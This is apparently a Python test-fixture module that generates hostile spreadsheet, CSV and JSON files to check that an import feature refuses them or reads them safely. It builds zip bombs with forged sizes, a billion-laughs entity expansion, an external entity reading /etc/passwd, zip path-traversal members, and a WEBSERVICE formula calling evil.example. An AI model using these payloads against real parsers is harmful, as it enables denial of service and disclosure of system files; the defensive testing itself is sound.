"""Files made to hurt, each a few bytes to a few megabytes."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORKBOOK = (
    f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}">'
    '<sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
RELATIONS = (
    f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" Type="{OFFICE}/worksheet" '
    'Target="{target}"/>{more}</Relationships>'
)
STRINGS_RELATION = (
    f'<Relationship Id="rId2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
)
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
ROOT = (
    f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
SHEET = f'<worksheet xmlns="{MAIN}"><sheetData>{{rows}}</sheetData></worksheet>'
TEXT = ' t="inlineStr"><is><t>I lost my Sunday</t></is></c>'
PLAIN = f'<row r="1"><c r="A1"{TEXT}</row><row r="2"><c r="A2"{TEXT}</row>'
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MB = 1024 * 1024
FILLER = b" " * 60_000 + b"<a/>"
"""Nothing, between tags that come often enough for no cell to be too long."""


def filled(megabytes: int) -> bytes:
    return FILLER * (megabytes * MB // len(FILLER))


def workbook(
    rows: str = PLAIN,
    target: str = "worksheets/sheet1.xml",
    members: dict[str, bytes | str] | None = None,
    sheet: str = "",
) -> bytes:
    """A workbook of one sheet; ``members`` go beside its parts, or over them."""
    given = members or {}
    more = STRINGS_RELATION if "xl/sharedStrings.xml" in given else ""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": ROOT,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": RELATIONS.format(target=target, more=more),
        "xl/worksheets/sheet1.xml": sheet or SHEET.format(rows=rows),
    }
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in (parts | given).items():
            archive.writestr(name, content)
    return file.getvalue()


def _lying() -> bytes:
    """Unpacks to 500 MB, and says 10 bytes of itself."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed = b"".join(packer.compress(FILLER * 68) for _ in range(125)) + packer.flush()
    content = bytearray(workbook(members={"xl/worksheets/sheet2.xml": b"0123456789"}))
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as source, zipfile.ZipFile(file, "w") as to:
        for member in source.infolist():
            to.writestr(member.filename, source.read(member))
        to.writestr(zipfile.ZipInfo("xl/worksheets/big.xml"), packed)
        member = to.infolist()[-1]
        member.compress_type = zipfile.ZIP_DEFLATED
        member.file_size = 10
    whole = bytearray(file.getvalue())
    start = whole.index(b"xl/worksheets/big.xml") - 30
    whole[start + 8 : start + 10] = (8).to_bytes(2, "little")
    return bytes(whole)


def _entities(declared: str, used: str) -> bytes:
    sheet = SHEET.format(rows=PLAIN.replace("I lost", used))
    return workbook(sheet=f'<?xml version="1.0"?><!DOCTYPE x [{declared}]>{sheet}')


def _laughs() -> bytes:
    levels = ['<!ENTITY a0 "ha">']
    levels += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return _entities("".join(levels), "&a9;")


def _strings(count: int, text: str) -> str:
    return f'<sst xmlns="{MAIN}" count="{count}">' + f"<si><t>{text}</t></si>" * count + "</sst>"


def _many_members() -> bytes:
    return workbook(members={f"xl/media/{number}.png": b"" for number in range(100_000)})


def _truncated() -> bytes:
    whole = workbook()
    return whole[: len(whole) * 2 // 3]


def _overlapping() -> bytes:
    """One packed member, named by the directory a thousand times."""
    packed = workbook(members={"xl/worksheets/x.xml": filled(60)})
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        last = archive.infolist()[-1]
    end = packed.rindex(b"PK\x05\x06")
    directory = int.from_bytes(packed[end + 16 : end + 20], "little")
    entry_start = packed.rindex(b"PK\x01\x02", 0, end)
    entry = packed[entry_start:end]
    assert last.filename.encode() in entry
    copies = [
        entry.replace(b"xl/worksheets/x.xml", f"xl/worksheets/{number:01d}.xml".encode())
        for number in range(10)
    ]
    body = packed[directory:end] + b"".join(copies)
    count = (6 + len(copies)).to_bytes(2, "little")
    tail = bytearray(packed[end:])
    tail[8:10] = tail[10:12] = count
    tail[12:16] = len(body).to_bytes(4, "little")
    return packed[:directory] + body + bytes(tail)


REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a sheet that unpacks to 400 MB": (
        "larger than",
        lambda: workbook(sheet=SHEET.format(rows=PLAIN + filled(400).decode())),
    ),
    "strings that unpack to 400 MB": (
        "larger than",
        lambda: workbook(members={"xl/sharedStrings.xml": _strings(8_000, "a" * 50_000)}),
    ),
    "a cell of 200 MB": (
        "cell of this workbook is longer",
        lambda: workbook(rows=PLAIN.replace("I lost", "a" * (200 * MB), 1)),
    ),
    "a string of 200 MB": (
        "cell of this workbook is longer",
        lambda: workbook(members={"xl/sharedStrings.xml": _strings(1, "a" * (200 * MB))}),
    ),
    "a size it only says it has": (
        "reaches to",
        lambda: workbook(
            sheet=SHEET.format(rows=PLAIN).replace(
                "<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'
            )
        ),
    ),
    "values from other files": (
        "other files",
        lambda: workbook(
            members={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"/>'}
        ),
    ),
    "ten million cells": (
        "more than 4,000,000 cells",
        lambda: workbook(rows="<row>" + "<c><v>1</v></c>" * 10_000_000 + "</row>"),
    ),
    "a million tags with a prefix": (
        "unusual way",
        lambda: workbook(rows=PLAIN + f"<x:row>{'<x:c/>' * 100}</x:row>" * 10_000),
    ),
    "a cell that names a far row": (
        "takes more than|reaches to|damaged",
        lambda: workbook(PLAIN.replace('"A2"', '"GR199999"')),
    ),
    "a size that is a lie": ("larger than|damaged", _lying),
    "one cell at the far corner": (
        "reaches to",
        lambda: workbook(PLAIN + f'<row r="1048576"><c r="XFD1048576"{TEXT}</row>'),
    ),
    "members that overlap": ("larger than|damaged", _overlapping),
    "entities in entities": ("document type", _laughs),
    "an entity of another file": (
        "document type",
        lambda: _entities('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
    ),
    "a sheet outside the zip": (
        "damaged|nothing to import",
        lambda: workbook(target="../../../../etc/passwd"),
    ),
    "100,000 members": ("parts inside", _many_members),
    "macros": ("macros", lambda: workbook(members={"xl/vbaProject.bin": b"\xcc\x61"})),
    "encrypted": (
        "password",
        lambda: OLD_OFFICE + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 512,
    ),
    "the old format by another name": ("old Excel", lambda: OLD_OFFICE + b"\0" * 4_096),
    "a program": ("no text and no spreadsheet", lambda: b"MZ\x90\x00" + b"\x00" * 4_096),
    "cut off": ("damaged", _truncated),
    "only a head": ("damaged", lambda: b"PK\x03\x04"),
    "no workbook inside": (
        "no Excel workbook",
        lambda: workbook(members={}).replace(b"xl/workbook.xml", b"xl/wOrkbook.xml"),
    ),
    "a table without end": ("more than 200,000 rows", lambda: b"a,b\n" * 5_000_000),
    "a row without end": ("longer than 1,000,000 characters", lambda: b"a," * 8_000_000),
    "a cell that never ends": ("never ends|longer than", lambda: b'a,b\n1,"' + b"x" * (19 * MB)),
    "a million empty rows": (
        "most of them probably empty",
        lambda: workbook(PLAIN + "<row/>" * 1_000_000),
    ),
    "many sheets": (
        "larger than|parts inside|reaches",
        lambda: workbook(members={f"xl/worksheets/s{n}.xml": filled(4) for n in range(150)}),
    ),
    "JSON within JSON": ("no complete JSON|longer than", lambda: b'{"a":' * 4_000_000),
    "a list without end": ("no complete JSON|longer than", lambda: b"[" * (19 * MB)),
    "lines of JSON without end": (
        "more than 200,000 rows",
        lambda: b'{"a":"I wait"}\n' * 1_000_000,
    ),
    "keys without end": (
        "more than 200 keys",
        lambda: b"".join(b'{"k%d":"I wait"}\n' % n for n in range(100_000)),
    ),
    "UTF-16 that is none": ("damaged|no text", lambda: b"\xff\xfe" + b"\x00\xd8" * 4 * MB),
}
"""By name: what the refusal says, and the file."""

TAKEN: dict[str, Callable[[], bytes]] = {
    "many empty rows": lambda: workbook(PLAIN + "<row/>" * 190_000),
    "names that climb": lambda: workbook(members={"../../../../tmp/evil.txt": b"evil"}),
    "a formula": lambda: workbook(
        PLAIN.replace("</row>", "", 1)
        + '</row><row r="3"><c r="A3"><f>WEBSERVICE("http://evil.example")</f><v>7</v></c></row>'
    ),
    "many strings": lambda: workbook(
        PLAIN, members={"xl/sharedStrings.xml": _strings(500_000, "a" * 50)}
    ),
}
"""Read, for what is hostile in them is not followed."""


def files() -> Iterator[tuple[str, Callable[[], bytes]]]:
    yield from ((name, make) for name, (_, make) in REFUSED.items())
    yield from TAKEN.items()
